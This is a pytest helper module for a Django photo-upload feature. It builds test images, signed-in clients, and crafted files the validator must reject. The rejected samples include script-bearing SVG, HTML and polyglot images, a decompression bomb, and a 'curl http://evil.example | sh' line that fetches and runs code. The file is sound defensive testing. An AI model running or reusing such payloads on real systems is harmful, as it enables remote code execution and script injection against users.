"""Crafted image files and signed-in clients for the photo tests."""

import io
import os
import zipfile
from collections.abc import Callable

import pytest
from django.test import Client
from PIL import Image, PngImagePlugin

from accounts.cookies import ACCESS_COOKIE
from mra_site.aws import cognito
from mra_site.aws.clients import client as aws_client
from mra_site.resources import media_bucket
from tests.conftest import PRIMARY


def image_bytes(
    image_format: str = "JPEG",
    size: tuple[int, int] = (48, 32),
    color: tuple[int, ...] = (200, 80, 40),
    mode: str = "RGB",
    **save_options,
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, format=image_format, **save_options)
    return out.getvalue()


def noise_png(side: int) -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(out, format="PNG")
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<b>hidden</b>")
    return out.getvalue()


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return image_bytes("PNG", pnginfo=info)


def crafted_refusals() -> list[tuple[str, bytes, str]]:
    jpeg = image_bytes("JPEG", size=(64, 48))
    png = image_bytes("PNG", size=(64, 48))
    idat = png.find(b"IDAT")
    return [
        ("empty", b"", "empty_file"),
        ("over the byte limit, declared", noise_png(200), "file_too_large"),
        ("over the byte limit, within the multipart slack", noise_png(120), "file_too_large"),
        (
            "decompression bomb",
            image_bytes("PNG", size=(8000, 6000), mode="1", color=0),
            "too_many_pixels",
        ),
        ("truncated JPEG", jpeg[: len(jpeg) // 2], "corrupt_image"),
        ("corrupt PNG", png[: idat + 8] + os.urandom(24) + png[idat + 32 :], "corrupt_image"),
        (
            "SVG named .jpg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "unsupported_type",
        ),
        (
            "HTML named .jpg",
            b"<!doctype html><html><script>alert(1)</script></html>",
            "unsupported_type",
        ),
        ("script named .jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "unsupported_type"),
        ("GIF", image_bytes("GIF"), "unsupported_type"),
        (
            "JPEG with HTML appended",
            jpeg + b"<html><script>alert(1)</script></html>",
            "not_a_clean_image",
        ),
        ("JPEG with a ZIP appended", jpeg + zip_bytes(), "not_a_clean_image"),
        (
            "PNG with script in a text chunk",
            png_with_text("<script>alert(1)</script>"),
            "not_a_clean_image",
        ),
        (
            "WebP with trailing data",
            image_bytes("WEBP") + b"PK\x03\x04trailing",
            "not_a_clean_image",
        ),
    ]


def upload_file(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_keys(region: str = PRIMARY) -> list[str]:
    """Every key holding bytes in the region's media bucket (any version)."""
    versions = aws_client("s3", region).list_object_versions(Bucket=media_bucket(region))
    return sorted({v["Key"] for v in versions.get("Versions", [])})


@pytest.fixture
def api_client(make_user) -> Callable[..., Client]:
    """api_client("alice") -> a Client sending alice's Bearer token; api_client() -> anonymous."""

    def build(username: str | None = None, region: str = PRIMARY) -> Client:
        if username is None:
            return Client()
        password = "Correct-horse-1"
        make_user(username, password)
        tokens = cognito.sign_in(region=region, username=username, password=password)
        return Client(headers={"Authorization": f"Bearer {tokens.access_token}"})

    return build


@pytest.fixture
def page_client(make_user) -> Callable[..., Client]:
    """page_client("alice") -> a browser-like Client signed in by cookie, CSRF enforced."""

    def build(username: str, region: str = PRIMARY) -> Client:
        password = "Correct-horse-1"
        make_user(username, password)
        tokens = cognito.sign_in(region=region, username=username, password=password)
        browser = Client(enforce_csrf_checks=True)
        browser.cookies[ACCESS_COOKIE] = tokens.access_token
        return browser

    return build


def csrf_token(browser: Client, path: str) -> str:
    response = browser.get(path)
    assert response.status_code == 200, response.content[:500]
    return browser.cookies["csrftoken"].value
